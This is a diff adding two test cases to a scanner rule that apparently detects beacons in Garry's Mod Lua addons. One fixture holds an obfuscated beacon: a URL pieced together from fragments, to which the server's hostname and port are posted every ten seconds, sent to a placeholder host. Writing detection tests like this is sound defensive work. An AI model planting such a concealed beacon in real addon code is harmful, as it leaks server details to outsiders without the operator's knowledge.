@@ -19,4 +19,20 @@ describe('server_beacon', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('the server reported every 10 s to a URL put together from pieces', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local u = table.concat({ "ht", "tps://", "vs", "kp", ".invalid", "/ping" })',
+        'timer.Create("vs", 10, 0, function() http.Post(u, { h = GetHostName(), p = GetConVarString("hostport") }) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('a version check once, its URL joined from a base and a path', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'local base = "https://raw.invalid/"\ntimer.Simple(10, function() http.Fetch(base .. "version.txt", function(b) MyAddon.Latest = tonumber(b) end) end)',
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
